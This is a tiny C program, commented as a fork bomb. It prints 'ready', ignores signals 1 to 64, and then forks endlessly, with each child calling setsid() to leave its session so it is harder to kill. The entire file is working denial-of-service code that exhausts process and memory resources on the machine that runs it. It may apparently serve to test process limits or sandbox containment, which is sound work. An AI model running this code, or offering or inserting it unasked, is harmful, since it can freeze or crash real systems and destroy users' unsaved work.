/* A fork bomb that ignores all it can, and leaves its session each time. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    printf("ready\n");
    fflush(stdout);
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
